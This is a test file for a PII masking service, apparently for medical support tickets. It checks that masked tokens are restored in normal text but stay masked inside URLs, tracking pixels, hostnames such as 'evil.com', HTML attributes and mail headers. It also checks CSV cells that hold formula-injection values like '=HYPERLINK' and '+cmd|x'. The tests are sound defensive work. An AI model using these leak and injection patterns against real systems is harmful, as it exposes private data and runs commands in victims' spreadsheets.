import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Format } from '../../src/documents/document.ts';
import { HOUR_MS } from '../../src/reveal/ledger.ts';
import type { Place } from '../../src/store/vault.ts';
import { type Revealing, revealing } from './setup.ts';

const FIRST = 'Patient: Maria Lopez, MRN: 00417-22, phone (202) 555-0142, DOB 03/14/1957.';

let on: Revealing;
let place: Place;
let name: string;
let phone: string;
beforeAll(async () => {
  on = await revealing();
  place = await on.place('ticket 1');
  const { content, learned } = await on.maskText(place, FIRST);
  expect(content).not.toMatch(/Maria|0142|00417/);
  name = learned.find(({ value }) => value === 'Maria Lopez')?.token ?? '';
  phone = learned.find(({ value }) => value === '(202) 555-0142')?.token ?? '';
  expect(phone).not.toBe('');
});
afterAll(() => on.end());

/** `§N` and `§P` stand for the tokens in a row. */
const filled = (text: string): string => text.replaceAll('§N', name).replaceAll('§P', phone);
const bare = (token: string): string => token.slice(1, -1);
async function revealed(format: Format, text: string): Promise<{ content: string; revealed: number; left: number }> {
  on.clock.now += HOUR_MS;
  const result = await on.back(place, filled(text), format);
  return { ...result, content: String(result.content) };
}

describe('a document comes back', () => {
  it.each<readonly [string, (token: string) => string]>([
    ['as it was', (token) => token],
    ['in lower case', (token) => token.toLowerCase()],
    ['without brackets', (token) => bare(token)],
    ['as an address', (token) => `${bare(token).toLowerCase()}@masked.invalid`],
    ['broken at its hyphen', (token) => token.replace('-', '-\n')],
    ['broken and quoted', (token) => token.replace('-', '-\r\n> > ')],
    ['escaped as Markdown', (token) => token.replace('[', '\\[').replace(']', '\\]')],
    ['with facts behind it', (token) => token.replace(']', ' GSM-7]')],
    ['with facts over a line', (token) => token.replace(']', ' +1 11\n> digits valid]')],
    ['in capitals with facts', (token) => token.replace(']', ' 10 DIGITS INVALID]')],
  ])('%s', async (_, written) => {
    const { content, revealed: count, left } = await revealed('text', `about ${written(name)}, again`);
    expect(content).toBe('about Maria Lopez, again');
    expect([count, left]).toEqual([1, 0]);
  });

  it.each<readonly [Format, string, string]>([
    ['text', '> quoted §N: call §P', '> quoted Maria Lopez: call (202) 555-0142'],
    ['text', 'Tel:§P, Dr.§N (§N)', 'Tel:(202) 555-0142, Dr.Maria Lopez (Maria Lopez)'],
    ['text', 'see https://a.example/x §N', 'see https://a.example/x Maria Lopez'],
    ['text', '§N.\nhttps://a.example/x', 'Maria Lopez.\nhttps://a.example/x'],
    ['text', '<https://a.example/x> §N', '<https://a.example/x> Maria Lopez'],
    ['html', '<p>§N</p>', '<p>Maria Lopez</p>'],
    ['html', '<a href="https://a.example/x">§N</a>', '<a href="https://a.example/x">Maria Lopez</a>'],
    ['json', '{"text":"§N"}', '{"text":"Maria Lopez"}'],
    ['csv', 'name,phone\n§N,§P\n', 'name,phone\nMaria Lopez,(202) 555-0142\n'],
    ['xml', '<a>§N</a>', '<a>Maria Lopez</a>'],
    ['mail', 'Subject: x\r\n\r\n§N', 'Subject: x\r\n\r\nMaria Lopez'],
  ])('%s %s', async (format, text, expected) => {
    expect(await revealed(format, text)).toMatchObject({ content: expected, left: 0 });
  });
});

describe('nothing comes back into', () => {
  it.each<readonly [Format, string]>([
    ['text', 'https://x.example/?p=§N'],
    ['text', 'x.example/?p=§N'],
    ['text', 'www.x.example?§N'],
    ['text', '//x.example/§N'],
    ['text', 'https:/\\x.example/§N'],
    ['text', 'https://§N@x.example/'],
    ['text', '§N@x.example/a'],
    ['text', '§N.x.example/a'],
    ['text', '§N.evil.com'],
    ['text', '§N://a'],
    ['text', '![x](/pixel/§N)'],
    ['text', '![x](<https://x.example/a b §N>)'],
    ['text', '<https://x.example/a b §N|here>'],
    ['text', '[1]: /pixel/ §N'],
    ['text', 'mailto:§N'],
    ['html', '<img src="https://x.example/?p=§N">'],
    ['html', '<p title="§N">x</p>'],
    ['html', '<p>https://x.example/<b>§N</b></p>'],
    ['html', '<!-- §N -->x'],
    ['html', '<p hidden>§N</p>'],
    ['html', '<p>§N</p><script>x()</script>'],
    ['html', "<p>x</p><img src='https://x.example/? §N"],
    ['json', '{"§N":"x"}'],
    ['json', '{"url":"https://x.example/?p=§N"}'],
    ['csv', 'name,note\n=HYPERLINK("https:"&§N),x\n'],
    ['csv', 'name,note\n"=A1&""§N""",x\n'],
    ['csv', 'name,note\n@§N,x\n'],
    ['url', 'a=§N&b=c'],
    ['mail', 'Subject: §N\r\n\r\nx'],
    ['mail', 'From: §N <a@x.example>\r\n\r\nx'],
    ['mail', 'Content-Type: text/plain; name="§N.txt"\r\nContent-Disposition: attachment; filename="§N.txt"\r\n\r\nx'],
  ])('%s %s', async (format, text) => {
    const result = await revealed(format, text);
    expect(result.content).toBe(filled(text));
    expect(result.revealed).toBe(0);
    expect(result.left).toBeGreaterThanOrEqual(1);
  });
});

describe('a value is written as its place wants it', () => {
  it.each<readonly [Format, string, string]>([
    ['html', '<p>§N</p>', '<p>Jo &lt;b&gt; &amp; "Co", Ltd</p>'],
    ['json', '{"text":"§N"}', String.raw`{"text":"Jo <b> & \"Co\", Ltd"}`],
    ['csv', 'name,note\n"§N",x\n', 'name,note\n"Jo <b> & ""Co"", Ltd",x\n'],
    ['csv', 'name,note\n§N,x\n', 'name,note\n§N,x\n'],
    ['xml', '<a>§N</a>', '<a>Jo &lt;b&gt; &amp; "Co", Ltd</a>'],
    ['json', '{"html":"<p>§N</p>"}', String.raw`{"html":"<p>Jo &lt;b&gt; &amp; \"Co\", Ltd</p>"}`],
  ])('%s %s', async (format, text, expected) => {
    const at = await on.place('signs');
    const { token } = await on.vault.mark(at, await on.masker(), {
      kind: 'NAME',
      value: 'Jo <b> & "Co", Ltd',
      actor: 'person-1',
    });
    on.clock.now += HOUR_MS;
    const result = await on.back(at, text.replaceAll('§N', token), format);
    expect(result.content).toBe(expected.replaceAll('§N', token));
  });

  it('no value makes a formula of a cell', async () => {
    const at = await on.place('formula');
    const masker = await on.masker();
    for (const value of ['=1+1', '@SUM(1)', '+cmd|x', '-2+3+A1']) {
      const { token } = await on.vault.mark(at, masker, { kind: 'NAME', value, actor: 'person-1' });
      const text = `name,note\n${token},x\n`;
      on.clock.now += HOUR_MS;
      expect((await on.back(at, text, 'csv')).content).toBe(text);
    }
    const { token } = await on.vault.mark(at, masker, { kind: 'PHONE', value: '+1 202 555 0142', actor: 'person-1' });
    expect((await on.back(at, `phone,note\n${token},x\n`, 'csv')).content).toBe('phone,note\n+1 202 555 0142,x\n');
  });
});

describe('tokens that stay', () => {
  it('are those of other conversations, other vendors and nobody, and are counted', async () => {
    const other = await on.place('ticket 2');
    const { learned } = await on.maskText(other, 'Patient: Jonas Ek');
    const foreign = learned[0]?.token ?? '';
    const text = `${foreign} and [NAME-00000000] and ${bare(foreign)} and §N`;
    expect(await revealed('text', text)).toEqual({
      content: `${foreign} and [NAME-00000000] and ${bare(foreign)} and Maria Lopez`,
      revealed: 1,
      left: 3,
    });
  });

  it('are those of another tenant, in 200 tries', async () => {
    const theirs = await on.place('ticket 1', { tenant: 'other' });
    const text = Array.from({ length: 200 }, () => '§N').join(' ');
    expect(await on.back(theirs, filled(text))).toMatchObject({ revealed: 0, left: 200 });
  });

  it('are all in a document that cannot be read', async () => {
    const doc = { format: 'json' as const, content: filled('{"broken": "§N"') };
    expect(await revealed('json', doc.content)).toEqual({ content: doc.content, revealed: 0, left: 1 });
  });

  it('an attachment that cannot be read stays as it is, and the text around it comes back', async () => {
    const pdf = '--b\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7 §N\r\n--b--\r\n';
    const text = `Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n§N\r\n${pdf}`;
    const { content } = await revealed('mail', text);
    expect(content).toBe(filled(text).replace(name, 'Maria Lopez'));
  });

  it('are those beyond the size that a document may get', async () => {
    const at = await on.place('large');
    const value = 'Anna '.repeat(1_900).trim();
    const { token } = await on.vault.mark(at, await on.masker(), { kind: 'ADDRESS', value, actor: 'person-1' });
    on.clock.now += HOUR_MS;
    const result = await on.back(at, `${token} `.repeat(300));
    expect(String(result.content).length).toBeLessThan(1_010_000);
    expect(result.revealed).toBeGreaterThan(100);
    expect(result.left).toBe(300 - result.revealed);
  });
});
